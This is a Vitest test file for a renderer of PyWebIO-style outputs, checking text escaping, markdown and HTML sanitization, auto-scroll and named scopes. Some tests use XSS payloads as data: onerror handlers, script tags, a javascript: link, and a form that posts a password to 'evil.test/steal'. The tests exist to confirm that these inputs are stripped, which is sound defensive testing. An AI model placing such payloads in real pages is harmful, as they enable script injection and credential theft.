// Outputs and scopes: what `output` draws (text is never HTML, markdown is sanitized) and `output_ctl`.
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { mount, output, scope, settle } from './harness';
import type { Mounted } from './harness';

let page: Mounted;

beforeEach(() => {
  vi.spyOn(console, 'warn').mockImplementation(() => undefined);
  page = mount();
});

afterEach(() => {
  page.cleanup();
  document.body.replaceChildren();
  delete (window as any).__jpsRan;
});

describe('render()', () => {
  it('draws a ROOT scope inside el and removes everything and its listener on cleanup', () => {
    const root = scope(page, 'ROOT');
    expect(root?.closest('.jps-root')?.parentElement).toBe(page.el);
    expect(page.listenerCount()).toBe(1);
    page.cleanup();
    expect(page.el.children).toHaveLength(0);
    expect(page.listenerCount()).toBe(0);
  });

  it('shows a snapshot sanitized', () => {
    const restored = mount({ snapshot: '<p class="old">kept</p><img src="x" onerror="window.__jpsRan = 1">' });
    const area = scope(restored, 'ROOT')!;
    expect(area.querySelector('p.old')?.textContent).toBe('kept');
    expect(area.querySelector('img')?.hasAttribute('onerror')).toBe(false);
    restored.cleanup();
  });
});

describe('output', () => {
  it('shows text as text: markup in it is escaped, never parsed', () => {
    const content = '<b>bold</b> <img src="x" onerror="window.__jpsRan = 1"> & <script>x</script>';
    page.deliver(output({ type: 'text', content }));
    const shown = scope(page, 'ROOT')!.querySelector('.jps-text')!;
    expect(shown.textContent).toBe(content);
    expect(shown.children).toHaveLength(0);
    expect(shown.innerHTML).toContain('&lt;b&gt;bold&lt;/b&gt;');
  });

  it('puts inline text in a span and block text in a paragraph', () => {
    page.deliver(output({ type: 'text', content: 'a', inline: true }), output({ type: 'text', content: 'b' }));
    const [first, second] = scope(page, 'ROOT')!.children;
    expect(first.tagName).toBe('SPAN');
    expect(second.tagName).toBe('P');
  });

  it('renders markdown', () => {
    page.deliver(output({ type: 'markdown', content: '# Title\n\nsome **bold** and `code`' }));
    const shown = scope(page, 'ROOT')!.querySelector('.jps-markdown')!;
    expect(shown.querySelector('h1')?.textContent).toBe('Title');
    expect(shown.querySelector('strong')?.textContent).toBe('bold');
    expect(shown.querySelector('code')?.textContent).toBe('code');
  });

  it('renders markdown as PyWebIO: a single newline is a line break, GFM tables; the app\'s options win', () => {
    page.deliver(output({ type: 'markdown', content: 'one\ntwo\n\n| a | b |\n|---|---|\n| 1 | 2 |' }),
      output({ type: 'markdown', content: 'three\nfour', options: { breaks: false } }));
    const [first, second] = scope(page, 'ROOT')!.querySelectorAll('.jps-markdown');
    expect(first.querySelector('p')?.innerHTML).toBe('one<br>two');
    expect([...first.querySelectorAll('td')].map(cell => cell.textContent)).toEqual(['1', '2']);
    expect(second.querySelector('br')).toBeNull();
  });

  it('sanitizes the HTML in markdown: an <img onerror> runs nothing, a <script> is dropped', async () => {
    page.deliver(output({ type: 'markdown',
      content: 'before <img src="x" onerror="window.__jpsRan = 1"> after\n\n<script>window.__jpsRan = 2</script>' }));
    await settle();
    const shown = scope(page, 'ROOT')!.querySelector('.jps-markdown')!;
    const image = shown.querySelector('img');
    expect(image).not.toBeNull(); // the image stays, without its handler
    expect(image!.getAttribute('onerror')).toBeNull();
    expect(shown.querySelector('script')).toBeNull();
    expect((window as any).__jpsRan).toBeUndefined();
  });

  it('drops <style> and <form> from markdown, keeping the fields and text inside a form', () => {
    page.deliver(output({ type: 'markdown', content: [
      'Styled <span style="color: red">red</span>',
      '',
      '<style>body { display: none } @import url("https://evil.test/x.css");</style>',
      '',
      '<form action="https://evil.test/steal" method="post"><input name="password"> Sign in</form>'
    ].join('\n') }));
    const shown = scope(page, 'ROOT')!.querySelector('.jps-markdown')!;
    expect(page.el.querySelector('style, form')).toBeNull(); // nothing restyles the page or posts elsewhere
    expect(shown.textContent).not.toContain('display: none'); // a style's rules are not left as text
    expect(shown.querySelector('input[name="password"]')).not.toBeNull(); // a field alone submits nowhere
    expect(shown.textContent).toContain('Sign in');
    expect(shown.querySelector('span')?.getAttribute('style')).toBe('color: red'); // inline styles stay
  });

  it('keeps <style> and <form> in put_html, which is raw HTML as in PyWebIO', () => {
    page.deliver(output({ type: 'html', content: '<style>.x { color: red }</style><form><input name="q"></form>' }));
    const shown = scope(page, 'ROOT')!.querySelector('.jps-html')!;
    expect(shown.querySelector('style')).not.toBeNull();
    expect(shown.querySelector('form input[name="q"]')).not.toBeNull();
  });

  it('sanitizes html when asked', () => {
    page.deliver(output({ type: 'html', content: '<i>ok</i><a href="javascript:alert(1)" onclick="x()">l</a>',
      sanitize: true }));
    const shown = scope(page, 'ROOT')!.querySelector('.jps-html')!;
    expect(shown.querySelector('i')?.textContent).toBe('ok');
    const link = shown.querySelector('a')!;
    expect(link.getAttribute('onclick')).toBeNull();
    expect(link.getAttribute('href') ?? '').not.toContain('javascript:');
  });

  it('draws an unknown output type as a placeholder', () => {
    page.deliver(output({ type: 'hologram' }));
    expect(scope(page, 'ROOT')!.querySelector('.jps-unsupported')?.textContent).toBe('[unsupported output: hologram]');
  });
});

describe('auto_scroll_bottom', () => {
  const frame = () => new Promise(resolve => requestAnimationFrame(resolve));

  it('scrolls a page to its end (the form after the outputs included), once a frame, for ROOT output only', async () => {
    const scrollTo = vi.spyOn(window, 'scrollTo').mockImplementation(() => undefined);
    const own = mount({ ownsDocument: true });
    Object.defineProperty(document.documentElement, 'scrollHeight', { value: 4321, configurable: true });
    own.deliver(output({ type: 'text', content: 'before' }));
    await frame();
    expect(scrollTo).not.toHaveBeenCalled(); // not asked for yet
    own.deliver({ command: 'set_env', spec: { auto_scroll_bottom: true } },
      output({ type: 'scope', dom_id: 'pywebio-scope-box', contents: [] }),
      output({ type: 'text', content: 'a' }), output({ type: 'text', content: 'b' }));
    await frame();
    expect(scrollTo.mock.calls).toEqual([[{ top: 4321, behavior: 'smooth' }]]);
    own.deliver(output({ type: 'text', content: 'in a scope' }, 'box'));
    await frame();
    expect(scrollTo).toHaveBeenCalledTimes(1);
    own.cleanup();
    delete (document.documentElement as any).scrollHeight;
    scrollTo.mockRestore();
  });

  it('in a notebook cell scrolls the end of the cell\'s output into view', async () => {
    const scrollIntoView = vi.fn();
    (Element.prototype as any).scrollIntoView = scrollIntoView;
    page.deliver({ command: 'set_env', spec: { auto_scroll_bottom: true } }, output({ type: 'text', content: 'a' }));
    await frame();
    expect(scrollIntoView.mock.calls).toEqual([[{ block: 'end', behavior: 'smooth' }]]);
    expect(scrollIntoView.mock.contexts[0]).toBe(page.el.querySelector('.jps-root'));
    delete (Element.prototype as any).scrollIntoView;
  });
});

describe('scopes', () => {
  const setScope = (name: string, spec: Record<string, unknown> = {}) => ({
    command: 'output_ctl', task_id: 'app-1',
    spec: { set_scope: `pywebio-scope-${name}`, container: '#pywebio-scope-ROOT', position: -1, ...spec }
  });

  it('output goes into a named scope, at its position', () => {
    page.deliver(setScope('side'), output({ type: 'text', content: 'outside' }),
      output({ type: 'text', content: 'second' }, 'side'), output({ type: 'text', content: 'first', position: 0 }, 'side'));
    const side = scope(page, 'side')!;
    expect([...side.children].map(child => child.textContent)).toEqual(['first', 'second']);
    expect(side.parentElement).toBe(scope(page, 'ROOT'));
    expect(scope(page, 'ROOT')!.lastElementChild?.textContent).toBe('outside');
  });

  it('output into a scope that does not exist draws nothing', () => {
    page.deliver(output({ type: 'text', content: 'lost' }, 'nowhere'));
    expect(page.el.textContent).not.toContain('lost');
    expect(console.warn).toHaveBeenCalled();
  });

  it('scopes are looked up in this renderer only', () => {
    const other = mount();
    other.deliver(setScope('mine'));
    page.deliver(output({ type: 'text', content: 'astray' }, 'mine'));
    expect(scope(other, 'mine')!.textContent).toBe('');
    other.cleanup();
  });

  it('output_ctl clear empties a scope and keeps it', () => {
    page.deliver(setScope('box'), output({ type: 'text', content: 'x' }, 'box'), output({ type: 'text', content: 'y' }, 'box'));
    page.deliver({ command: 'output_ctl', task_id: 'app-1', spec: { clear: '#pywebio-scope-box' } });
    expect(scope(page, 'box')).not.toBeNull();
    expect(scope(page, 'box')!.children).toHaveLength(0);
  });

  it('output_ctl remove removes a scope, but never ROOT', () => {
    page.deliver(setScope('gone'), output({ type: 'text', content: 'x' }, 'gone'));
    page.deliver({ command: 'output_ctl', task_id: 'app-1', spec: { remove: '#pywebio-scope-gone' } },
      { command: 'output_ctl', task_id: 'app-1', spec: { remove: '#pywebio-scope-ROOT' } });
    expect(scope(page, 'gone')).toBeNull();
    expect(scope(page, 'ROOT')).not.toBeNull();
  });

  it('set_scope on an existing scope: kept by default, emptied with if_exist=clear', () => {
    page.deliver(setScope('s'), output({ type: 'text', content: 'x' }, 's'));
    page.deliver(setScope('s'));
    expect(scope(page, 's')!.children).toHaveLength(1);
    expect(page.el.querySelectorAll('[id="pywebio-scope-s"]')).toHaveLength(1);
    page.deliver(setScope('s', { if_exist: 'clear' }));
    expect(scope(page, 's')!.children).toHaveLength(0);
  });
});
